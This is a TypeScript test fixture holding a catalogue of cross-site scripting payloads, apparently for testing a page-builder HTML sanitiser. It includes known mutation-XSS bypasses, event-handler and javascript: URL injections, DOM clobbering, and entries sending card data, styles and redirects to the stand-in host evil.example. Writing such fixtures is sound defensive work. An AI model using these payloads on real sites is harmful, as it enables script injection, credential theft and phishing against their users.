import { attackScript } from './harm';

export const image = `<img src=x onerror=${attackScript}>`;

/**
 * Pieces of hostile HTML. Tests use each piece alone, because one piece could break another. The mutation cases are
 * known bypasses of earlier sanitisers.
 */
export const hostileHtml: Record<string, string> = {
  script: `<script>${attackScript}</script><scr<script>ipt>${attackScript}</script>`,
  handlers: `${image}<details open ontoggle=${attackScript}>d</details><marquee onstart=${attackScript}>m</marquee><b onpointerenter=${attackScript}>b</b>`,
  'focus and media': `<input autofocus onfocus=${attackScript}><video><source onerror=${attackScript}></video><audio src=x onerror=${attackScript}></audio>`,
  'body and frames': `<body onload=${attackScript}><frameset onload=${attackScript}><object data="data:text/html,<script>parent.${attackScript}</script>"></object>`,
  'script address': `<a href="javascript:${attackScript}">go</a><a href=" &#x6A;ava&Tab;script:${attackScript}">go</a><area href="javascript:${attackScript}">`,
  'other addresses': `<a href="vbscript:x">go</a><a href="data:text/html,<script>${attackScript}</script>">go</a><a href="blob:x">go</a>`,
  'svg link': `<svg><a xlink:href="javascript:${attackScript}"><text y=20>go</text></a><animate onbegin=${attackScript} attributeName=x></svg>`,
  'svg picture': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${attackScript}'/>"><svg onload=${attackScript}>`,
  'svg style': `<svg></p><style><a id="</style>${image}">`,
  'math style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${attackScript}&gt;">`,
  'form in math': `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  'noscript style': `<noscript><style></noscript>${image}</style><noscript><p title="</noscript>${image}">`,
  'select template': `<select><template><style></select>${image}</template>`,
  'title and textarea': `<title><a title="</title>${image}"></title><textarea><a title="</textarea>${image}"></textarea><xmp><p title="</xmp>${image}">`,
  comment: `<!--><script>${attackScript}</script>--><!--><img src=x onerror=${attackScript}>-->`,
  'annotation-xml': `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
  'style address': `<p style="background:url(https://evil.example/a);background-image:\\75rl(https://evil.example/b);width:expression(${attackScript})">p</p>`,
  'style block': `<style>@import "https://evil.example/c";#html-body [data-pb-style=A]{background:url(https://evil.example/d)}</style><p data-pb-style="A">p</p>`,
  'style cover': `<p data-cover style="position:fixed;inset:0;z-index:9999;opacity:0">p</p>`,
  'meta and base': `<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/e">`,
  form: `<form action="https://evil.example/" id=f><input name=card></form><button form=f formaction="javascript:${attackScript}">pay</button>`,
  'html block': `<div data-content-type="html">&lt;img src=x onerror=${attackScript}&gt;&lt;script&gt;${attackScript}&lt;/script&gt;</div>`,
  'background json': `<div data-content-type="banner" data-element="main"><div data-element="wrapper" data-background-images='{"desktop_image":"javascript:${attackScript}","mobile_image":"x\\" onerror=${attackScript} x=\\""}'>w</div></div>`,
  'map json': `<div data-content-type="map" data-locations='[{"location_name":"<img src=x onerror=${attackScript}>","position":{"latitude":"1","longitude":"<script>"}}]'></div>`,
  'tab name': `<div data-content-type="tabs"><ul><li data-element="headers">${image}</li></ul><div data-content-type="tab-item" data-tab-name="${'&lt;img src=x onerror='}${attackScript}&gt;">t</div></div>`,
  'button link': `<div data-content-type="buttons"><div data-content-type="button-item"><a data-element="link" href="javascript:${attackScript}"><span>go</span></a></div></div>`,
  'directive in a tag': `<p {{x onclick=${attackScript}}} title="{{">"{{/x}} onclick=${attackScript}">p</p><a href="{{store url='javascript:${attackScript}'}}">go</a>`,
  'foreign player': `<div data-content-type="video"><iframe src="https://evil.example/" srcdoc="<script>parent.${attackScript}</script>"></iframe></div>`,
  'script player': `<iframe src="javascript:parent.${attackScript}"></iframe><iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>`,
  clobbering: `<form id=location><input name=href></form><a id=navigator></a><img name=getElementById><p id="__proto__">p</p>`,
};
